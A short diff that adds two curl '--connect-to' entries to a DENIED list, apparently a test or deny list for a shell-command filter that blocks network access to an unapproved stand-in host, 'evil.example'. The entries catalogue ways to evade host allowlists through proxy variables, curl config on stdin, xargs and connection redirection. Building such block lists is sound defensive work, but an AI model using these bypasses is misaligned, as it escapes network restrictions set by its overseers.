@@ -26,6 +26,8 @@ DENIED = [
     "HTTPS_PROXY=evil.example:80 curl https://good.example",
     "export ALL_PROXY=socks5://evil.example; git fetch",
     "curl -K - <<< 'url=https://evil.example'",
+    "curl --connect-to ::evil.example:443 https://good.example",
+    "curl --connect-to good.example:443:evil.example: https://good.example",
     "wget -i - <<< https://evil.example",
     "xargs curl <<< https://evil.example",
     "echo https://evil.example | xargs curl",
